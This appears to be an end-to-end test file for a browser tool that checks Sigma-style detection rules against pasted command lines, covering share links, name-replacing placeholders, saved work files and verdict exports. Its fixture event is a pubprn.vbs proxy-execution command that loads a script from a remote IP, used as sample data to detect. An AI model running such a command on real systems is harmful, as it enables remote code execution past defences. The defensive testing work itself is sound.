// Work that is shared: by a link, by a file, and verdicts taken along.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { read, write } from './editor.mjs';
import { journey } from './journey.mjs';
import { headline, paste, share, writeRule } from './states.mjs';

const line = 'cscript C:\\Users\\mjones\\pubprn.vbs \\\\FILESRV01\\x script:http://10.1.2.3/a';
const rule = 'title: Mine\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  a:\n    CommandLine|contains: frobnicate\n  condition: a\n';
const events = (page) => page.getByLabel('Events: command lines or log records');
const dialog = (page) => page.getByRole('dialog', { name: 'Share this work' });
const link = (page) => dialog(page).getByRole('textbox', { name: /^Link/ }).inputValue();
const playground = (page) => page.getByRole('link', { name: 'Playground', exact: true }).click();

/** Opens an address in a tab of somebody else, whose storage is their own. */
async function elsewhere(page, address, steps) {
  const context = await page.context().browser().newContext();
  try {
    const other = await context.newPage();
    await other.goto(address);
    await steps(other);
  } finally {
    await context.close();
  }
}

journey('a link holds rules, and events only when asked', async (page) => {
  await writeRule(page, rule);
  await playground(page);
  await paste(page, line);
  await share(page);
  const without = await link(page);
  assert.doesNotMatch(without, /mjones/i);
  await elsewhere(page, without, async (other) => {
    await other.getByText('no events; yours stay').waitFor();
    await other.getByText('title: Mine').waitFor();
    await other.getByRole('button', { name: 'Open it' }).click();
    await paste(other, 'frobnicate.exe');
    await headline(other, 'The event matches');
    assert.doesNotMatch(other.url(), /share=/);
  });
});

journey('events go along with placeholders for names, and their verdicts', async (page) => {
  await paste(page, line);
  await headline(page, 'The event matches');
  await share(page);
  await dialog(page).getByLabel(/^Events, with labels/).check();
  const row = (was, now) => dialog(page).getByRole('row', { name: `${was} ${now}` }).waitFor();
  await row('mjones', 'user1');
  await row('FILESRV01', 'host1');
  await row('10.1.2.3', '10.0.0.2');
  await elsewhere(page, await link(page), async (other) => {
    await other.getByRole('button', { name: 'Open it' }).click();
    await headline(other, 'The event matches');
    const text = await read(events(other));
    assert.equal(text, 'cscript C:\\Users\\user1\\pubprn.vbs \\\\host1\\x script:http://10.0.0.2/a');
  });
});

journey('work that is opened leaves a way back', async (page) => {
  await paste(page, line);
  await share(page);
  await dialog(page).getByLabel(/^Events, with labels/).check();
  await dialog(page).getByText('user1').waitFor();
  const address = await link(page);
  await dialog(page).getByRole('button', { name: 'Close' }).click();
  await paste(page, 'ipconfig /mine');
  await headline(page, 'The event does not match');
  await page.goto(address);
  await page.getByRole('button', { name: 'Keep mine' }).click();
  assert.equal(await read(events(page)), 'ipconfig /mine');
  await page.evaluate((hash) => { location.hash = hash; }, new URL(address).hash);
  await page.getByRole('button', { name: 'Open it' }).click();
  await headline(page, 'The event matches');
  await page.getByRole('button', { name: 'Undo' }).click();
  await headline(page, 'The event does not match');
  assert.equal(await read(events(page)), 'ipconfig /mine');
});

journey('links that are broken, too new or too long say so', async (page) => {
  await paste(page, 'ipconfig /mine');
  const say = async (hash, words) => {
    await page.evaluate((hash) => { location.hash = hash; }, hash);
    await page.getByText(words).waitFor();
    await page.getByRole('button', { name: 'Dismiss the message' }).click();
  };
  await say('#share=1.AAAA', 'The link was cut off or changed on its way.');
  await say('#share=99.AAAA', 'This was made by a newer Cutout');
  await say(`#share=1.${'A'.repeat((1 << 20) + 10)}`, 'The link is longer than');
  assert.equal(await read(events(page)), 'ipconfig /mine');
});

/** What the page offers as a file when `press` is done. */
async function download(page, press) {
  const [file] = await Promise.all([page.waitForEvent('download'), press()]);
  return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
}

journey('work is saved as a file and opened again', async (page) => {
  await writeRule(page, rule);
  await playground(page);
  await paste(page, 'frobnicate.exe');
  await share(page);
  await dialog(page).getByLabel(/^Events, with labels/).check();
  await dialog(page).getByLabel(/^Replace names/).uncheck();
  await dialog(page).getByRole('textbox', { name: /^Link/ }).waitFor();
  const file = await download(page, () => dialog(page).getByRole('button', { name: 'Save as file' }).click());
  assert.equal(file.name, 'work.cutout.json');
  await dialog(page).getByRole('button', { name: 'Close' }).click();
  await write(events(page), 'ipconfig /mine');
  await page.locator('#events-file').setInputFiles({ name: file.name, mimeType: 'application/json', buffer: Buffer.from(file.text) });
  await page.getByRole('heading', { name: 'Open the work in work.cutout.json?' }).waitFor();
  await page.getByRole('button', { name: 'Open it' }).click();
  await headline(page, 'The event matches');
  assert.equal(await read(events(page)), 'frobnicate.exe');
});

journey('verdicts are taken along as CSV, JSON lines and Markdown', async (page) => {
  await paste(page, `${line}\nipconfig`);
  await headline(page, '1 of 2 events matches');
  const exported = (what) => download(page, () => page.getByLabel('Export the verdicts').selectOption(what));
  const csv = await exported('Verdicts as CSV');
  assert.equal(csv.name, 'verdicts.csv');
  assert.match(csv.text, /^line,event,verdict,level,rule,/);
  const json = await exported('Verdicts as JSON lines');
  const rows = json.text.trim().split('\n').map((row) => JSON.parse(row));
  assert.equal(rows.at(-1).summary.events, 2);
  const report = await exported('Report as Markdown');
  assert.match(report.text, /^# Verdicts\n/);
  assert.match(report.text, /- \*\*Match\*\*: Pubprn\.vbs Proxy Execution/);
});
